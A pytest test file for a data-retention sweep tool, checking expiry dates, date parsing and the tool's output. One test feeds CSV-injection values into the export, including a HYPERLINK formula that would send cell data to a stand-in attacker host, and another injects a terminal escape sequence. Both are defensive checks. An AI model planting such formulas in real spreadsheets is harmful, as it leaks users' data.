"""The retention sweep against the demo store: what is past retention, on which day, and why."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import UTC, date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from rekisteri.cli import app
from rekisteri.errors import RekisteriError
from rekisteri.operations import retention_sweep
from rekisteri.operations.retention_sweep import (
    DateReader,
    add_period,
    expires_on,
    latest_expired_start,
    sweep,
)
from rekisteri.register.loading import load_register
from store_fixtures import STORE_SQL, file_digest, pg_checksums, pg_execute

D = date.fromisoformat


def run(*args: object) -> tuple[int, str]:
    result = CliRunner().invoke(app, [str(a) for a in args])
    return result.exit_code, result.output


def by_category(
    report: retention_sweep.RetentionReport,
) -> dict[str, retention_sweep.CategorySweep]:
    return {category.category: category for category in report.categories}


# --- periods --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("start", "period", "end_of_year", "expected"),
    [
        ("2023-04-06", "P2Y", False, "2025-04-06"),
        ("2024-02-29", "P2Y", False, "2026-02-28"),
        ("2024-02-29", "P4Y", False, "2028-02-29"),
        ("2023-05-17", "P6Y", True, "2029-12-31"),
        ("2023-12-31", "P6Y", True, "2029-12-31"),
        ("2024-01-31", "P1M", False, "2024-02-29"),
        ("2024-01-01", "P1Y6M10D", False, "2025-07-11"),
        ("2024-01-01", "P2W", False, "2024-01-15"),
    ],
)
def test_expiry_dates(start: str, period: str, end_of_year: bool, expected: str) -> None:
    assert expires_on(D(start), period, end_of_year=end_of_year) == D(expected)


@given(
    st.dates(min_value=date(1950, 1, 1), max_value=date(2090, 12, 31)),
    st.dates(min_value=date(1990, 1, 1), max_value=date(2090, 12, 31)),
    st.sampled_from(["P2Y", "P6Y", "P1M", "P1Y6M", "P30D", "P120Y", "P3W"]),
    st.booleans(),
)
def test_the_last_expired_start_splits_the_dates(
    start: date, as_of: date, period: str, end_of_year: bool
) -> None:
    last = latest_expired_start(as_of, period, end_of_year=end_of_year)
    passed = expires_on(start, period, end_of_year=end_of_year) < as_of
    assert passed == (start <= last)


HELSINKI = ZoneInfo("Europe/Helsinki")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2023-04-06", date(2023, 4, 6)),
        ("2023-04-06 12:00:00", date(2023, 4, 6)),
        ("2023-04-06T23:30:00", date(2023, 4, 6)),  # naive: read in the mapping's time zone
        ("2023-04-06T21:30:00Z", date(2023, 4, 7)),  # 00:30 in Helsinki
        ("2023-04-06 23:30:00+02:00", date(2023, 4, 7)),  # summer time: 00:30 at +03:00
        (" 2023-04-06 ", date(2023, 4, 6)),
        (date(2023, 4, 6), date(2023, 4, 6)),
        (datetime(2023, 4, 6, 23, 30), date(2023, 4, 6)),
        (datetime(2023, 4, 6, 21, 30, tzinfo=UTC), date(2023, 4, 7)),
        (None, None),
    ],
)
def test_dates_as_stores_hold_them(value: object, expected: date | None) -> None:
    assert DateReader(None, HELSINKI)(value) == expected


@pytest.mark.parametrize(
    "value",
    ["31.13.2020", "6.4.2023", "eilen", "", "2023-02-30", "2023-04-06x12:00", "20230406",
     "2023-W14-4", 20230406, 1680739200, 45022.5, True, b"2023-04-06"],
)  # fmt: skip
def test_a_value_that_is_not_a_date_is_never_one(value: object) -> None:
    with pytest.raises(ValueError):
        DateReader(None, HELSINKI)(value)


def test_a_reader_that_has_seen_a_day_and_a_time_still_refuses_what_is_not_a_moment() -> None:
    """Its memory of valid days and times (a sweep reads a million moments) never makes an
    invalid day or time valid, nor another day's moment this one's."""
    reader = DateReader(None, HELSINKI)
    assert reader("2024-02-28 10:00:00") == date(2024, 2, 28)
    assert reader("2024-02-29 23:59:59") == date(2024, 2, 29)
    assert reader("2024-02-28 23:59:59") == date(2024, 2, 28)  # both parts seen before
    for value in (
        "2024-02-30 10:00:00",
        "2024-02-28 25:00:00",
        "2024-02-28 10:00:60",
        "2024-02-28x10:00:00",
        "2024-02-2810:00:00 ",
    ):
        with pytest.raises(ValueError):
            reader(value)
    assert reader("2024-02-28T10:00:00") == date(2024, 2, 28)


def test_a_declared_format_reads_exactly_that_format() -> None:
    finnish = DateReader("%d.%m.%Y", HELSINKI)
    assert finnish("6.4.2023") == finnish("06.04.2023") == date(2023, 4, 6)
    assert finnish(date(2023, 4, 6)) == date(2023, 4, 6)  # the store's own date type says it
    for value in ("31.13.2020", "2023-04-06", "6.4.23", "eilen", ""):
        with pytest.raises(ValueError):
            finnish(value)
    stamped = DateReader("%d.%m.%Y %H:%M %z", HELSINKI)
    assert stamped("6.4.2023 23:30 +0000") == date(2023, 4, 7)


def test_add_period_counts_calendar_months() -> None:
    assert add_period(D("2025-01-31"), "P1M") == D("2025-02-28")


# --- the demo store -------------------------------------------------------------------------------


def test_feedback_expires_row_by_row(demo_path: Path) -> None:
    report = sweep(load_register(demo_path), as_of=D("2025-06-01"))
    feedback = by_category(report)["feedback"]
    # Given 2023-04-06 (client 3) and 2023-04-29 (client 20): two years passed in April 2025.
    assert [(s.key, s.rows, s.counted_from, s.expired_on) for s in feedback.due] == [
        (3, 1, D("2023-04-06"), D("2025-04-06")),
        (20, 1, D("2023-04-29"), D("2025-04-29")),
    ]
    assert feedback.clock == "row" and feedback.rows == 2
    assert report.rows == 2  # nothing else has passed yet


@pytest.mark.parametrize(("as_of", "due"), [("2025-04-06", []), ("2025-04-07", [3])])
def test_the_period_passes_the_day_after_it_ends(
    demo_path: Path, as_of: str, due: list[int]
) -> None:
    report = sweep(load_register(demo_path), as_of=D(as_of))
    assert [s.key for s in by_category(report)["feedback"].due] == due


def test_the_client_relationship_ends_with_the_last_activity(demo_path: Path) -> None:
    register = load_register(demo_path)
    # Client 13's latest: invoice 2023-12-29 (appointments 2023-06-30, contacts 2023-10-17,
    # order 2023-12-02). Two years end 2025-12-29.
    before = by_category(sweep(register, as_of=D("2025-12-29")))
    after = by_category(sweep(register, as_of=D("2025-12-30")))
    assert [s.key for s in before["contact-details"].due] == []
    contact = after["contact-details"]
    assert [(s.key, s.counted_from, s.expired_on) for s in contact.due] == [
        (13, D("2023-12-29"), D("2025-12-29"))
    ]
    appointments = after["appointments"]
    # Client 13: one appointment, one contact, one order.
    assert [(s.key, s.rows) for s in appointments.due] == [(13, 3)]
    assert [(c.source, c.rows) for c in appointments.sources] == [
        ("contacts", 1),
        ("orders", 1),
        ("appointments", 1),
    ]
    # The query source (notes) runs for client 13 only: one note.
    assert [(s.key, s.rows) for s in after["other"].due] == [(13, 1)]


def test_a_link_stored_as_text_still_keeps_the_person(demo_path: Path) -> None:
    # Client 13's latest activity is an invoice (2023-12-29). A booking system that keeps the
    # invoice's client as text ('13') must not make the sweep miss it and call them expired.
    connection = sqlite3.connect(demo_path.parent / "asiakkaat.sqlite")
    connection.executescript(
        """
        ALTER TABLE invoices RENAME TO invoices_typed;
        CREATE TABLE invoices (
            id INTEGER PRIMARY KEY, client_id TEXT NOT NULL, number TEXT NOT NULL,
            invoice_date DATE NOT NULL, due_date DATE NOT NULL, amount NUMERIC(10, 2) NOT NULL,
            paid_at DATE
        );
        INSERT INTO invoices SELECT id, CAST(client_id AS TEXT) || '', number, invoice_date,
            due_date, amount, paid_at FROM invoices_typed;
        DROP TABLE invoices_typed;
        CREATE INDEX invoices_client ON invoices (client_id);
        """
    )
    connection.commit()
    assert connection.execute("SELECT typeof(client_id) FROM invoices").fetchone() == ("text",)
    connection.close()
    register = load_register(demo_path)
    before = by_category(sweep(register, as_of=D("2025-12-29")))
    assert [s.key for s in before["contact-details"].due] == []
    after = by_category(sweep(register, as_of=D("2025-12-30")))
    assert [(s.key, s.counted_from) for s in after["contact-details"].due] == [
        (13, D("2023-12-29"))
    ]
    # Row by row, through the text link and through collection_cases' join to it.
    billing = by_category(sweep(register, as_of=D("2030-01-01")))["billing"]
    assert {c.source: c.rows for c in billing.sources} == {"invoices": 24, "collection_cases": 1}
    assert billing.due and all(isinstance(s.key, int) for s in billing.due)


def test_everyone_passes_eventually_and_patient_records_do_not(demo_path: Path) -> None:
    report = by_category(sweep(load_register(demo_path), as_of=D("2026-11-28")))
    assert len(report["contact-details"].due) == 20
    assert report["appointments"].rows == 35 + 9 + 64  # contacts, orders, appointments
    assert report["identity"].due == [] and report["health"].due == []
    assert report["identity"].period == "P120Y"  # the store knows no deaths: from birth


def test_bookkeeping_counts_from_the_end_of_the_year(demo_path: Path) -> None:
    register = load_register(demo_path)
    # Invoices dated 2023 are kept until the end of 2029; collection cases opened in 2023 too.
    assert by_category(sweep(register, as_of=D("2029-12-31")))["billing"].rows == 0
    billing = by_category(sweep(register, as_of=D("2030-01-01")))["billing"]
    sources = {c.source: c.rows for c in billing.sources}
    assert sources == {"invoices": 24, "collection_cases": 1}
    assert billing.end_of_year and {s.expired_on for s in billing.due} == {D("2029-12-31")}


def test_people_without_a_date_are_counted_not_reported(demo_path: Path) -> None:
    text = demo_path.read_text(encoding="utf-8").replace(
        'latest_of = ["appointments.starts_at", "contacts.contacted_at", "orders.ordered_at", '
        '"invoices.invoice_date", "clients.created_at"]',
        'latest_of = ["appointments.starts_at"]',
    )
    demo_path.write_text(text, encoding="utf-8")
    connection = sqlite3.connect(demo_path.with_name("asiakkaat.sqlite"))
    connection.execute(
        "INSERT INTO clients (id, first_name, last_name, created_at, updated_at) "
        "VALUES (21, 'Uusi', 'Asiakas', '2020-01-01', '2020-01-01')"
    )
    connection.execute(
        "INSERT INTO contacts VALUES (99, 21, '2020-01-01 10:00:00', 'puhelin', 'x')"
    )
    connection.commit()
    connection.close()
    report = by_category(sweep(load_register(demo_path), as_of=D("2030-01-01")))
    assert report["contact-details"].undated == 1 and 21 not in {
        s.key for s in report["contact-details"].due
    }
    assert report["appointments"].undated == 1


def _execute(demo_path: Path, *statements: str) -> None:
    connection = sqlite3.connect(demo_path.with_name("asiakkaat.sqlite"))
    for statement in statements:
        connection.execute(statement)
    connection.commit()
    connection.close()


NOT_DATES = ["31.13.2020", "eilen", "", 20200101, "1.1.2020", "2099-02-30", "2030-01-01 24:00:00"]


@pytest.mark.parametrize("value", NOT_DATES, ids=repr)
def test_a_row_whose_date_is_not_one_is_reported_never_due(demo_path: Path, value: object) -> None:
    _execute(demo_path, "INSERT INTO feedback (client_id, given_at, rating, comment, may_publish) "
             f"VALUES (7, {value!r}, 3, 'Vanha palaute', FALSE)")  # fmt: skip
    report = sweep(load_register(demo_path), as_of=D("2025-06-01"))
    feedback = by_category(report)["feedback"]
    assert [s.key for s in feedback.due] == [3, 20]  # client 7's undated row is not among them
    assert feedback.undecided == 1 and feedback.undated == 0
    [unreadable] = report.unreadable
    assert (unreadable.table, unreadable.column, unreadable.rows) == ("feedback", "given_at", 1)
    assert unreadable.example == repr(value)


@pytest.mark.parametrize("value", NOT_DATES, ids=repr)
def test_a_person_whose_date_is_not_one_is_never_expired(demo_path: Path, value: object) -> None:
    # Client 13's latest readable date is the invoice of 2023-12-29: two years end on
    # 2025-12-29. An appointment whose time cannot be read could be later.
    _execute(demo_path, "INSERT INTO appointments (client_id, starts_at, minutes, service, status)"
             f" VALUES (13, {value!r}, 60, 'x', 'x'), (13, {value!r}, 60, 'x', 'x')")  # fmt: skip
    report = sweep(load_register(demo_path), as_of=D("2025-12-30"))
    contact = by_category(report)["contact-details"]
    assert contact.due == [] and contact.undecided == 1
    assert by_category(report)["appointments"].due == []
    [unreadable] = report.unreadable
    assert (unreadable.table, unreadable.column, unreadable.rows) == (
        "appointments",
        "starts_at",
        2,
    )
    assert unreadable.example == repr(value)
    # A person decided by a readable later date needs no guess: client 1 is active.
    assert 1 not in {s.key for s in contact.due}


def test_unreadable_dates_are_told_in_every_output(demo_path: Path) -> None:
    _execute(demo_path, "INSERT INTO feedback (client_id, given_at, rating, comment, may_publish) "
             "VALUES (7, '31.13.2020', 3, 'x', FALSE), (8, 'eilen', 3, 'y', FALSE)")  # fmt: skip
    code, output = run("retention", demo_path, "--as-of", "2025-06-01", "--lang", "en")
    assert code == 0, output
    assert (
        "feedback.given_at: 2 rows hold a value that is not a date (e.g. '31.13.2020'); "
        "expected ISO 8601 (YYYY-MM-DD)" in output
    )
    assert "2 without a readable date: not judged, check by hand" in output
    code, output = run("retention", demo_path, "--as-of", "2025-06-01", "--lang", "fi")
    assert code == 0 and "feedback.given_at: 2 riviä, joiden arvo ei ole päivämäärä" in output
    code, output = run("retention", demo_path, "--as-of", "2025-06-01", "--format", "json")
    data = json.loads(output)
    assert data["unreadable"] == [
        {"table": "feedback", "column": "given_at", "rows": 2, "example": "'31.13.2020'",
         "format": "ISO 8601"}
    ]  # fmt: skip
    assert next(c for c in data["categories"] if c["category"] == "feedback")["undecided"] == 2


def test_an_escape_in_a_store_value_does_not_reach_the_terminal(demo_path: Path) -> None:
    _execute(demo_path, "INSERT INTO feedback (client_id, given_at, rating, comment, may_publish) "
             "VALUES (7, char(27) || '[2J', 3, 'x', FALSE)")  # fmt: skip
    code, output = run("retention", demo_path, "--as-of", "2025-06-01", "--lang", "en")
    assert code == 0 and "\x1b" not in output
    assert "(e.g. '\\x1b[2J')" in output


def test_time_zones_move_a_date_across_midnight(demo_path: Path) -> None:
    # Client 3's feedback was given at 01:30 on 7 April in Helsinki (22:30 UTC on the 6th).
    _execute(demo_path, "UPDATE feedback SET given_at = '2023-04-06T22:30:00Z' WHERE client_id = 3")
    register = load_register(demo_path)
    assert [
        s.key for s in by_category(sweep(register, as_of=D("2025-04-07")))["feedback"].due
    ] == []
    due = by_category(sweep(register, as_of=D("2025-04-08")))["feedback"].due
    assert [(s.key, s.counted_from) for s in due] == [(3, D("2023-04-07"))]
    # The same for a person's latest date: 00:30 on 30 December in Helsinki.
    _execute(demo_path, "INSERT INTO appointments (client_id, starts_at, minutes, service, status)"
             " VALUES (13, '2023-12-29T22:30:00+00:00', 60, 'x', 'x')")  # fmt: skip
    assert by_category(sweep(register, as_of=D("2025-12-30")))["contact-details"].due == []
    due = by_category(sweep(register, as_of=D("2025-12-31")))["contact-details"].due
    assert [(s.key, s.counted_from) for s in due] == [(13, D("2023-12-30"))]


def test_the_days_are_those_of_the_mappings_time_zone(demo_path: Path) -> None:
    _execute(demo_path, "UPDATE feedback SET given_at = '2023-04-06T22:30:00Z' WHERE client_id = 3")
    text = demo_path.read_text(encoding="utf-8")
    demo_path.write_text(text.replace('url = "asiakkaat.sqlite"\n', 'url = "asiakkaat.sqlite"\n'
                                      'time_zone = "UTC"\n', 1), encoding="utf-8")  # fmt: skip
    due = by_category(sweep(load_register(demo_path), as_of=D("2025-04-07")))["feedback"].due
    assert [(s.key, s.counted_from) for s in due] == [(3, D("2023-04-06"))]  # in UTC, the 6th


def test_a_declared_format_reads_the_store_as_written(demo_path: Path) -> None:
    day, month = "ltrim(strftime('%d', given_at), '0')", "ltrim(strftime('%m', given_at), '0')"
    _execute(demo_path, f"UPDATE feedback SET given_at = {day} || '.' || {month} || '.' || "
             "strftime('%Y', given_at)")  # fmt: skip
    register = load_register(demo_path)
    feedback = by_category(sweep(register, as_of=D("2025-06-01")))["feedback"]
    assert feedback.due == [] and feedback.undecided == 11  # not ISO: nothing is guessed
    text = demo_path.read_text(encoding="utf-8").replace(
        'row_date = "given_at"', 'row_date = "given_at"\nformat = "%d.%m.%Y"'
    )
    demo_path.write_text(text, encoding="utf-8")
    report = sweep(load_register(demo_path), as_of=D("2025-06-01"))
    feedback = by_category(report)["feedback"]
    assert [(s.key, s.counted_from) for s in feedback.due] == [
        (3, D("2023-04-06")),
        (20, D("2023-04-29")),
    ]
    assert feedback.undecided == 0 and report.unreadable == []


def test_a_format_per_column(demo_path: Path) -> None:
    _execute(demo_path, "UPDATE orders SET ordered_at = strftime('%d.%m.%Y', ordered_at)")
    old = 'latest_of = ["appointments.starts_at", "contacts.contacted_at", "orders.ordered_at", '
    text = demo_path.read_text(encoding="utf-8")
    assert old in text
    text = text.replace(
        "[store.retention.client-relationship]\n",
        '[store.retention.client-relationship]\nformat = { "orders.ordered_at" = "%d.%m.%Y" }\n',
    )
    demo_path.write_text(text, encoding="utf-8")
    contact = by_category(sweep(load_register(demo_path), as_of=D("2025-12-30")))["contact-details"]
    assert [(s.key, s.counted_from) for s in contact.due] == [(13, D("2023-12-29"))]


@pytest.mark.parametrize(
    ("declared", "message"),
    [
        ('"%d.%m.%y"', "two-digit year"),
        ('"DD.MM.YYYY"', "not a date format"),
        ('"%m/%Y"', "not a date format"),
        (
            '{ "feedback.givn_at" = "%d.%m.%Y" }',
            "'feedback.givn_at' is not a column this rule reads",
        ),
    ],
)
def test_a_bad_format_is_a_located_error(demo_path: Path, declared: str, message: str) -> None:
    text = demo_path.read_text(encoding="utf-8").replace(
        'row_date = "given_at"', f'row_date = "given_at"\nformat = {declared}'
    )
    demo_path.write_text(text, encoding="utf-8")
    with pytest.raises(RekisteriError) as caught:
        load_register(demo_path)
    rendered = str(caught.value)
    assert message in rendered and "store.retention.feedback.format" in rendered, rendered
    assert "register.toml:" in rendered


@pytest.mark.parametrize("odd", [False, True], ids=["clean", "with dates that are not"])
def test_both_ways_of_reading_dates_agree(
    demo_path: Path, monkeypatch: pytest.MonkeyPatch, odd: bool
) -> None:
    if odd:
        _execute(
            demo_path,
            "INSERT INTO appointments (client_id, starts_at, minutes, service, status) VALUES "
            "(13, 'eilen', 60, 'x', 'x'), (4, '', 60, 'x', 'x'), (5, 2023, 60, 'x', 'x'), "
            "(6, '2023-06-01T23:30:00-05:00', 60, 'x', 'x')",
            "UPDATE clients SET created_at = '1.1.2020' WHERE id IN (7, 8)",
        )
    register = load_register(demo_path)
    for as_of in ("2025-06-01", "2025-12-30", "2026-06-01", "2030-01-01"):
        by_key = sweep(register, as_of=D(as_of)).to_dict()
        monkeypatch.setattr(retention_sweep, "FEW", 0)  # every column scanned whole
        scanned = sweep(register, as_of=D(as_of)).to_dict()
        monkeypatch.undo()
        assert by_key == scanned, as_of


def test_the_sweep_only_reads(demo_path: Path) -> None:
    store = demo_path.with_name("asiakkaat.sqlite")
    before = file_digest(store)
    sweep(load_register(demo_path), as_of=D("2030-01-01"))
    assert file_digest(store) == before


def test_csv_and_json(demo_path: Path) -> None:
    report = sweep(load_register(demo_path), as_of=D("2025-06-01"))
    rows = list(csv.DictReader(io.StringIO(report.to_csv())))
    assert rows == [
        {"category": "feedback", "rule": "feedback", "subject": "3", "rows": "1",
         "counted_from": "2023-04-06", "expired_on": "2025-04-06"},
        {"category": "feedback", "rule": "feedback", "subject": "20", "rows": "1",
         "counted_from": "2023-04-29", "expired_on": "2025-04-29"},
    ]  # fmt: skip
    data = json.loads(report.to_json())
    assert data["as_of"] == "2025-06-01" and data["rows"] == 2
    assert [c["category"] for c in data["categories"]][:3] == [
        "identity",
        "contact-details",
        "next-of-kin",
    ]


def test_csv_keys_are_text_in_a_spreadsheet() -> None:
    # Keys are the store's own: a text key can be anything, a number stays a number.
    report = retention_sweep.RetentionReport(as_of=D("2025-06-01"), store="x")
    category = retention_sweep.CategorySweep("feedback", "feedback", "P2Y", "row", False)
    day = D("2023-04-06")
    keys = [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+A1",
        "+1",
        "@SUM(A1)",
        "\tx",
        "\rx",
        -5,
        "a-1",
    ]
    category.due = [retention_sweep.SubjectDue(key, 1, day, day) for key in keys]
    report.categories.append(category)
    rows = list(csv.DictReader(io.StringIO(report.to_csv(), newline="")))
    assert [row["subject"] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1)',
        "'+A1",
        "+1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "-5",
        "a-1",
    ]
    assert json.loads(report.to_json())["categories"][0]["due"][0]["subject"] == keys[0]


# --- mapping mistakes -----------------------------------------------------------------------------


def test_an_undeclared_rule_is_a_validation_error(demo_path: Path) -> None:
    text = demo_path.read_text(encoding="utf-8").replace(
        "[store.retention.feedback]", "[store.retention.feedbak]"
    )
    demo_path.write_text(text, encoding="utf-8")
    with pytest.raises(RekisteriError) as caught:
        load_register(demo_path)
    assert "'feedbak' is not a declared retention rule" in str(caught.value)
    assert "did you mean 'feedback'" in str(caught.value)


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (
            'row_date = "given_at"',
            'row_date = "givn_at"',
            "table 'feedback' has no column 'givn_at'",
        ),
        (
            'row_date = { invoices = "invoice_date", collection_cases = "opened_at" }',
            'row_date = { invoices = "invoice_date" }',
            "no row_date is given for table 'collection_cases'",
        ),
        (
            '"marketing_events.recorded_at"]',
            '"marketing_event.recorded_at"]',
            "the store has no table 'marketing_event'",
        ),
        (
            'latest_of = ["clients.birth_date"]',
            'latest_of = ["collection_cases.opened_at"]',
            "cannot tell which column of 'collection_cases' holds the subject's key",
        ),
        (
            'row_date = "given_at"',
            'row_date = "given_at"\nformat = { "feedbak.given_at" = "%d.%m.%Y" }',
            "'feedbak.given_at' is not a column this rule reads",
        ),
    ],
)
def test_mapping_mistakes_are_located(demo_path: Path, old: str, new: str, message: str) -> None:
    text = demo_path.read_text(encoding="utf-8")
    assert old in text
    demo_path.write_text(text.replace(old, new), encoding="utf-8")
    with pytest.raises(RekisteriError) as caught:
        sweep(load_register(demo_path), as_of=D("2025-06-01"))
    rendered = str(caught.value)
    assert message in rendered and "register.toml:" in rendered and "store.retention." in rendered


def test_a_clock_needs_exactly_one_kind_of_date(demo_path: Path) -> None:
    text = demo_path.read_text(encoding="utf-8").replace(
        'row_date = "given_at"', 'row_date = "given_at"\nlatest_of = ["clients.created_at"]'
    )
    demo_path.write_text(text, encoding="utf-8")
    with pytest.raises(RekisteriError, match="either latest_of"):
        load_register(demo_path)


def test_categories_without_a_clock_are_listed_as_not_swept(demo_path: Path) -> None:
    text = demo_path.read_text(encoding="utf-8")
    start = text.index("[store.retention.feedback]")
    end = text.index("# A marketing choice")
    demo_path.write_text(text[:start] + text[end:], encoding="utf-8")
    report = sweep(load_register(demo_path), as_of=D("2025-06-01"))
    assert [(s.category, s.reason) for s in report.skipped] == [("feedback", "no_clock")]
    assert "feedback" not in by_category(report)


FEEDBACK_RULE = """id = "feedback"
period = "P2Y"
counted_from = { fi = "palautteen antamisesta", en = "when the feedback was given" }
"""
CLOCK = '[store.retention.feedback]\nrow_date = "given_at"\n'


@pytest.mark.parametrize(
    ("rule", "reason", "said"),
    [
        (
            'id = "feedback"\nterms = [{ period = "P2Y", medium = "electronic" }, '
            '{ period = "P6M", medium = "paper" }]\n',
            "several_terms",
            "the rule has several terms",
        ),
        ('id = "feedback"\nuntil = 2030-12-31\n', "until", "an end date, not a period"),
        (FEEDBACK_RULE.replace('"P2Y"', '"P2Y"\nat_most = true'), "at_most", "upper limit"),
        (
            'id = "feedback"\ncriteria = { fi = "Kunnes asia on käsitelty.", '
            'en = "Until the matter is handled." }\n',
            "criteria_only",
            "criteria, not a period",
        ),
        (FEEDBACK_RULE.replace('"P2Y"', '"PT10M"'), "time_part", "a time part"),
    ],
    ids=["several terms", "until", "at most", "criteria only", "time part"],
)
def test_a_rule_the_sweep_cannot_compute_is_skipped_with_its_reason(
    demo_path: Path, rule: str, reason: str, said: str
) -> None:
    text = demo_path.read_text(encoding="utf-8")
    assert FEEDBACK_RULE in text and CLOCK in text
    # A clock's own period replaces the rule's period, not its form: it changes nothing here
    # (and the register's checks ask for it where the rule has no period of its own).
    text = text.replace(FEEDBACK_RULE, rule).replace(CLOCK, CLOCK + 'period = "P2Y"\n')
    demo_path.write_text(text, encoding="utf-8")
    register = load_register(demo_path)
    report = sweep(register, as_of=D("2030-06-01"))
    # Never a guessed date: the category is not judged at all, and says why.
    assert "feedback" not in by_category(report)
    assert [(s.category, s.rule, s.reason) for s in report.skipped] == [
        ("feedback", "feedback", reason)
    ]
    assert json.loads(report.to_json())["skipped"][0]["reason"] == reason
    lines = retention_sweep.format_text(report, register, "en").splitlines()
    assert any(line.startswith("  Client feedback (feedback): ") and said in line for line in lines)
    assert by_category(report)["billing"].due  # the other categories are swept as before


def test_a_category_under_several_rules_is_not_swept(demo_path: Path) -> None:
    text = demo_path.read_text(encoding="utf-8")
    old = (
        'purposes = ["surveys", "survey-publication"]\nsources = ["client"]\nretention = "feedback"'
    )
    assert old in text
    demo_path.write_text(
        text.replace(old, old.replace('"feedback"', '["feedback", "marketing"]')), encoding="utf-8"
    )
    report = sweep(load_register(demo_path), as_of=D("2030-06-01"))
    assert "feedback" not in by_category(report)
    assert [(s.category, s.rule, s.reason) for s in report.skipped] == [
        ("feedback", "feedback, marketing", "several_rules")
    ]


# --- the command ----------------------------------------------------------------------------------


def test_cli_retention(demo_path: Path) -> None:
    code, output = run("retention", demo_path, "--as-of", "2025-06-01", "--lang", "en")
    assert code == 0, output
    assert "This report deletes nothing." in output
    assert "Client feedback (feedback): 2 years from when the feedback was given" in output
    assert "2 rows of 2 people past retention" in output and "People (store keys): 3, 20" in output
    code, output = run("retention", demo_path, "--as-of", "2025-06-01", "--format", "csv")
    assert code == 0 and output.startswith("category,rule,subject,rows,counted_from,expired_on\n")
    code, output = run("retention", demo_path, "--as-of", "1.6.2025", "--format", "json")
    assert code == 0 and json.loads(output)["rows"] == 2


def test_cli_retention_bad_input(demo_path: Path, tmp_path: Path) -> None:
    code, output = run("retention", demo_path, "--as-of", "June")
    assert code == 1 and "--as-of 'June' is not a date" in output and "Traceback" not in output
    demo_path.with_name("asiakkaat.sqlite").unlink()
    code, output = run("retention", demo_path)
    assert code == 1 and "does not exist" in output


# --- PostgreSQL -----------------------------------------------------------------------------------


def test_postgresql_sweep_matches_sqlite(
    demo_path: Path, pg_database: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    register = load_register(demo_path)
    expected = sweep(register, as_of=D("2026-01-01")).to_dict()
    pg_execute(pg_database, STORE_SQL.read_text(encoding="utf-8"))
    before = pg_checksums(pg_database)
    monkeypatch.setenv("REKISTERI_STORE_URL", pg_database)
    found = sweep(register, as_of=D("2026-01-01")).to_dict()
    assert pg_checksums(pg_database) == before
    expected.pop("store"), found.pop("store")
    assert found == expected
    assert sum(c["rows"] for c in found["categories"]) > 0


def test_mariadb_sweep_matches_sqlite(
    demo_path: Path, mysql_database: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from store_fixtures import mysql_execute

    register = load_register(demo_path)
    expected = sweep(register, as_of=D("2026-01-01")).to_dict()
    mysql_execute(mysql_database, STORE_SQL.read_text(encoding="utf-8"))
    monkeypatch.setenv("REKISTERI_STORE_URL", mysql_database)
    found = sweep(register, as_of=D("2026-01-01")).to_dict()
    expected.pop("store"), found.pop("store")
    assert found == expected


# Dates kept as text on a server database, with values that are not dates, and times with a
# zone: the server reads them as SQLite does.
ODD_ROWS = (
    "INSERT INTO feedback (id, client_id, given_at, rating, comment, may_publish) VALUES "
    "(90, 7, '31.13.2020', 3, 'x', FALSE), (91, 8, 'eilen', 3, 'y', FALSE), "
    "(92, 9, '2020-01-01', 3, 'z', FALSE)"
)
LATE_EVENING = (
    "INSERT INTO appointments (id, client_id, starts_at, minutes, service, status) "
    "VALUES (900, 13, '2023-12-29 20:00:00', 60, 'x', 'x')"
)


@pytest.mark.parametrize("as_of", ["2025-06-01", "2025-12-30"])
def test_postgresql_reads_text_dates_and_zones_as_sqlite_does(
    demo_path: Path, pg_database: str, monkeypatch: pytest.MonkeyPatch, as_of: str
) -> None:
    _execute(demo_path, ODD_ROWS, LATE_EVENING)
    register = load_register(demo_path)
    expected = sweep(register, as_of=D(as_of)).to_dict()
    assert expected["unreadable"][0]["rows"] == 2
    if as_of == "2025-12-30":  # client 13's latest is now the appointment of 29 December
        contact = next(c for c in expected["categories"] if c["category"] == "contact-details")
        assert [s["subject"] for s in contact["due"]] == [13]
    pg_execute(pg_database, STORE_SQL.read_text(encoding="utf-8"))
    name = pg_database.rpartition("/")[2].partition("?")[0]
    pg_execute(
        pg_database,
        "ALTER TABLE feedback ALTER COLUMN given_at TYPE text;"
        "ALTER TABLE appointments ALTER COLUMN starts_at TYPE timestamptz "
        "USING starts_at AT TIME ZONE 'Europe/Helsinki';"
        f"SET TIME ZONE 'Europe/Helsinki'; {ODD_ROWS}; {LATE_EVENING};"
        # The sweep's own sessions count days in Tokyo: a day's first moment there is 17:00
        # of the day before in Helsinki, so the day it compares with must carry its zone.
        f"ALTER DATABASE \"{name}\" SET timezone TO 'Asia/Tokyo'",
    )
    monkeypatch.setenv("REKISTERI_STORE_URL", pg_database)
    found = sweep(register, as_of=D(as_of)).to_dict()
    expected.pop("store"), found.pop("store")
    assert found == expected


def test_mariadb_reads_text_dates_as_sqlite_does(
    demo_path: Path, mysql_database: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from store_fixtures import mysql_execute

    _execute(demo_path, ODD_ROWS)
    register = load_register(demo_path)
    expected = sweep(register, as_of=D("2025-06-01")).to_dict()
    mysql_execute(mysql_database, STORE_SQL.read_text(encoding="utf-8"))
    mysql_execute(mysql_database, "ALTER TABLE feedback MODIFY given_at TEXT;\n" + ODD_ROWS + ";")
    monkeypatch.setenv("REKISTERI_STORE_URL", mysql_database)
    found = sweep(register, as_of=D("2025-06-01")).to_dict()
    expected.pop("store"), found.pop("store")
    assert found == expected


def test_a_scan_the_driver_stops_midway_is_counted_once_from_the_stores_own_reading(
    demo_path: Path,
) -> None:
    """SQLite's cursor streams the rows and fails at text that is not UTF-8, after the rows
    before it have been counted: the sweep counts again from the store's own reading, not on
    top of what the cursor gave."""
    _execute(demo_path, "INSERT INTO feedback (client_id, given_at, rating, comment, may_publish) "
             "VALUES (7, CAST(x'ff32303230' AS TEXT), 3, 'x', FALSE)")  # fmt: skip
    report = sweep(load_register(demo_path), as_of=D("2025-06-01"))
    feedback = by_category(report)["feedback"]
    assert [(s.key, s.rows) for s in feedback.due] == [(3, 1), (20, 1)]
    assert feedback.undecided == 1 and feedback.undated == 0
